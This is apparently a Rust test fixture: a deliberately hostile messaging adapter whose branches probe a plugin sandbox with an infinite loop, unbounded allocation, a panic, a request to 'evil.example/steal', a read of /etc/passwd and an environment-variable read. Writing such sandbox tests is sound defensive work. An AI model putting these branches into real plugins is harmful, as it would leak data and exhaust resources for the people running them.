//! A deliberately misbehaving adapter for the sandbox tests.
//!
//! `send` misbehaves according to the recipient address: `loop` spins
//! forever, `alloc` allocates without bound, `trap` panics, `egress` calls a
//! host outside its allow-list, `file` reads a file, `env` reads an
//! environment variable, `ratelimit` answers "rate-limited, retry after
//! 600 s" for the whole sender, `sleep` sleeps until the call times out.
//! Any other address gets a receipt.

use switchboard_sdk::prelude::*;

struct Hostile;

impl Adapter for Hostile {
    fn describe() -> ChannelInfo {
        let mut info = ChannelInfo::new(
            "hostile",
            "Hostile test adapter",
            AddressKind::PlatformUserId,
        );
        info.egress_hosts = vec!["api.hostile.example".into()];
        info
    }

    fn send(batch: Vec<OutboundMessage>) -> Vec<Result<Receipt, SendError>> {
        batch
            .into_iter()
            .map(|message| misbehave(&message.to))
            .collect()
    }

    fn handle_webhook(request: HttpRequest) -> WebhookResult {
        let _ = misbehave(request.path().trim_start_matches("/webhooks/hostile/"));
        WebhookResult::reply(HttpResponse::text(200, "ok"))
    }
}

fn misbehave(how: &str) -> Result<Receipt, SendError> {
    match how {
        "loop" => {
            let mut counter: u64 = 0;
            loop {
                counter = std::hint::black_box(counter.wrapping_add(1));
            }
        }
        "alloc" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        "trap" => panic!("deliberate trap for the sandbox test"),
        "egress" => {
            let response = Request::get("https://evil.example/steal").send()?;
            Ok(Receipt::new(format!("reached {}", response.status)))
        }
        "file" => match std::fs::read_to_string("/etc/passwd") {
            Ok(text) => Ok(Receipt::new(format!("read {} bytes", text.len()))),
            Err(error) => Err(SendError::Permanent(Failure::new("", error.to_string()))),
        },
        "env" => match std::env::var("HOME") {
            Ok(home) => Ok(Receipt::new(format!("HOME={home}"))),
            Err(error) => Err(SendError::Permanent(Failure::new("", error.to_string()))),
        },
        "ratelimit" => Err(SendError::rate_limited(
            RateLimitScope::Sender,
            Some(600_000),
            Failure::new("429", "slow down: retry after 600 s"),
        )),
        "sleep" => {
            std::thread::sleep(std::time::Duration::from_secs(3600));
            Ok(Receipt::new("woke up"))
        }
        other => Ok(Receipt::new(format!("ok:{other}"))),
    }
}

switchboard_sdk::export_adapter!(Hostile);
